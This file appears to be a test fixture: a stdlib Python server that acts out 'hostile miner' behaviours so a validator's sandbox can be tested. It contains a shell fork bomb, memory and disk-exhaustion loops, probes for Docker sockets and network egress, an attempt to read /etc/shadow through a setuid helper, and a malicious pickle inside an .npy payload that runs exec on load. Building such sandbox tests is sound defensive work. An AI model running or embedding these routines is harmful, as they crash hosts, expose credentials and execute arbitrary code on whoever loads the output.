"""A hostile miner's server.py for tests/test_hostile_miners.py: stdlib only, one behaviour per repo.

The behaviour is chosen by ``model/config.json`` ("mode" plus its options), which the test writes into
each repo. Modes that end at start-up print one ``REPORT {json}`` line and exit 3, so the validator
records StartFailed with the report in the container's log tail; modes that serve do so on port 8000.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CONFIG: dict[str, Any] = json.loads((Path(__file__).resolve().parent / "model" / "config.json").read_text())
MODE = str(CONFIG["mode"])
PORT = int(os.environ.get("PORT", "8000"))
HEALTHY = {"status": "healthy", "initialization_status": {"model_loaded": True, "error": None}}
NOT_LOADED = {"status": "initializing", "initialization_status": {"model_loaded": False, "error": None}}
REPORT: dict[str, Any] = {}
SERVED = 0


def report_and_exit(report: dict[str, Any]) -> None:
    print("REPORT " + json.dumps(report, sort_keys=True), flush=True)
    sys.exit(3)


def describe(exc: BaseException) -> str:
    code = getattr(exc, "errno", None)
    name = errno.errorcode.get(code, "") if isinstance(code, int) and code > 0 else ""
    return f"failed: {type(exc).__name__} {name} {exc}".strip()


# --------------------------------------------------------------------------- start-up modes


def default_gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    return "none"


def tcp_connect(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=2):
            return "connected"
    except OSError as exc:
        return describe(exc)


def probe() -> None:
    report: dict[str, Any] = {}
    for host, port in CONFIG.get("tcp", []):
        report[f"tcp {host}:{port}"] = tcp_connect(host, port)
    for port in CONFIG.get("gateway_tcp", []):
        gateway = default_gateway()
        report[f"gateway {gateway}:{port}"] = tcp_connect(gateway, port)
    for host, port in CONFIG.get("udp", []):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            try:
                sock.sendto(b"hostile-miner-datagram", (host, port))
                report[f"udp {host}:{port}"] = "sent"
            except OSError as exc:
                report[f"udp {host}:{port}"] = describe(exc)
    for name in CONFIG.get("dns", []):
        try:
            report[f"dns {name}"] = "resolved " + str(socket.getaddrinfo(name, 80)[0][4])
        except socket.gaierror as exc:
            report[f"dns {name}"] = f"failed: gaierror {exc.errno} {exc.strerror}"
    report_and_exit(report)


def memory_bomb() -> None:
    blocks = []
    while True:
        blocks.append(b"\x01" * (16 << 20))  # written, not just reserved
        if len(blocks) % 4 == 0:
            print(f"allocated {len(blocks) * 16} MiB", flush=True)


def fill(path: str, limit_mib: int) -> tuple[int, str]:
    """Write 4 MiB chunks to ``path`` until an error or ``limit_mib``; returns (MiB written, outcome)."""
    written = 0
    chunk = b"\x02" * (4 << 20)
    try:
        with open(path, "wb") as handle:
            while written < limit_mib:
                handle.write(chunk)
                handle.flush()
                os.fsync(handle.fileno())
                written += 4
                if written % 128 == 0:
                    print(f"{path}: {written} MiB", flush=True)
    except OSError as exc:
        return written, describe(exc)
    return written, "limit reached"


def fill_in_child(path: str, limit_mib: int) -> tuple[int, str]:
    """Fill ``path`` from a child that volunteers for the OOM killer, so this process lives to report."""
    script = (
        f"echo 1000 > /proc/self/oom_score_adj; exec dd if=/dev/zero of={path} bs=4M count={limit_mib // 4}"
    )
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True)
    written = os.path.getsize(path) // 2**20 if os.path.exists(path) else 0
    with contextlib.suppress(OSError):
        os.remove(path)  # give the memory back before the next phase
    if done.returncode < 0:
        return written, f"killed by signal {-done.returncode}"
    errors = [line for line in done.stderr.splitlines() if "error" in line or "No space" in line]
    return written, (errors[-1] if errors else f"exit {done.returncode}")


def disk_fill() -> None:
    report: dict[str, Any] = {}
    for folder in ("/", "/app", "/etc", "/var/tmp", "/home", "/root"):
        target = os.path.join(folder, "hostile-fill")
        try:
            with open(target, "wb") as handle:
                handle.write(b"x" * 4096)
            report[f"write {folder}"] = "written"
        except OSError as exc:
            report[f"write {folder}"] = describe(exc)
    report["shm"] = fill_in_child("/dev/shm/hostile-fill", 4096)
    report["tmp"] = fill_in_child("/tmp/hostile-fill", 4096)
    report_and_exit(report)


def privileged() -> None:
    report: dict[str, Any] = {"uid": os.getuid(), "gid": os.getgid(), "euid": os.geteuid()}
    status = Path("/proc/self/status").read_text()
    for line in status.splitlines():
        if line.startswith(("CapEff:", "CapBnd:", "NoNewPrivs:")):
            key, value = line.split(":", 1)
            report[key] = value.strip()
    sockets = [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/var/lib/voice-validator/docker/docker.sock",
        "/run/containerd/containerd.sock",
    ]
    report["sockets_present"] = [path for path in sockets if os.path.exists(path)]
    found = subprocess.run(["find", "/", "-xdev", "-type", "s"], capture_output=True, text=True, timeout=20)
    report["any_socket_file"] = [p for p in found.stdout.split() if "docker" in p or "containerd" in p]
    shadow = subprocess.run(["/usr/local/bin/rootcat", "/etc/shadow"], capture_output=True, text=True)
    report["setuid_cat_shadow"] = "read" if shadow.returncode == 0 else "failed: " + shadow.stderr.strip()
    try:
        with open("/etc/hostile-probe", "w") as handle:
            handle.write("x")
        report["write /etc"] = "written"
    except OSError as exc:
        report["write /etc"] = describe(exc)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
        report["raw_socket"] = "opened"
    except OSError as exc:
        report["raw_socket"] = describe(exc)
    report["volume /data"] = fill("/data/hostile-fill", 128)
    report["volume /data fs"] = next(
        (line.split()[2] for line in open("/proc/mounts") if line.split()[1] == "/data"), "not mounted"
    )
    report_and_exit(report)


def fork_bomb() -> None:
    """The classic shell bomb in the background, plus our own forks until the kernel refuses one."""
    subprocess.Popen(["sh", "-c", "b() { b | b & }; b"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    children, outcome = 0, "no-refusal"
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError as exc:
            outcome = errno.errorcode.get(exc.errno or 0, type(exc).__name__)
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
    pids = []
    for folder in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
        if os.path.exists(f"{folder}/pids.max"):
            pids = [Path(f"{folder}/{name}").read_text().strip() for name in ("pids.current", "pids.max")]
            break
    # Short: the validator keeps 80 characters of a reason phrase.
    REPORT["fork"] = f"bomb: {children} forks then {outcome}; pids {'/'.join(pids)}"


# --------------------------------------------------------------------------- serving modes


def npy_pickle_payload() -> bytes:
    """A .npy file of dtype object whose data is a pickle that writes a marker file when loaded."""

    class Exploit:
        def __reduce__(self) -> tuple[Any, tuple[str]]:
            marker = str(CONFIG["marker"])
            return exec, (f"open({marker!r}, 'w').write('pwned')",)

    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle.dumps(Exploit())


class Handler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def send_json(self, payload: dict[str, Any], status: int = 200) -> None:
        body = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        if MODE == "nested_health":
            # Valid JSON nested far deeper than a recursive parser allows, well within the 64 KB cap.
            body = b"[" * 30_000 + b"]" * 30_000
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        self.send_json(NOT_LOADED if MODE == "never_healthy" else HEALTHY)

    def do_POST(self) -> None:
        global SERVED
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        SERVED += 1
        if MODE == "fork_bomb":
            self.send_response(500, REPORT.get("fork", "bomb: no report"))
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif MODE == "huge":
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(8 * 2**30))
            self.end_headers()
            self.stream_forever()
        elif MODE == "endless":
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Connection", "close")
            self.end_headers()
            self.stream_forever()
        elif MODE == "slow":
            if SERVED % 2:
                time.sleep(3600)  # never answers
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", "1000")
            self.end_headers()
            for _ in range(1000):  # drips the body, one byte a second
                self.wfile.write(b" ")
                self.wfile.flush()
                time.sleep(1)
        elif MODE == "crash_after":
            if SERVED > int(CONFIG["requests"]):
                os._exit(1)
            self.send_json({"text": "I do not know."})
        elif MODE == "pickle" and self.path == "/api/v1/inference":
            import base64

            self.send_json({"audio_data": base64.b64encode(npy_pickle_payload()).decode(), "text": "hi"})
        else:
            self.send_json({"text": "I do not know."})

    def stream_forever(self) -> None:
        chunk = b'{"text": "' + b"A" * (256 << 10)
        try:
            while True:
                self.wfile.write(chunk)
        except OSError:
            pass


def main() -> None:
    start_up = {"probe": probe, "memory_bomb": memory_bomb, "disk_fill": disk_fill, "privileged": privileged}
    if MODE in start_up:
        start_up[MODE]()
        return
    if MODE == "fork_bomb":
        fork_bomb()
        # One thread, no new threads per request: the bomb has used up every pid.
        HTTPServer(("0.0.0.0", PORT), Handler).serve_forever()
        return
    server_class = ThreadingHTTPServer if MODE in ("slow", "huge", "endless", "pickle") else HTTPServer
    threading.current_thread().name = f"hostile-{MODE}"
    server_class(("0.0.0.0", PORT), Handler).serve_forever()


if __name__ == "__main__":
    main()
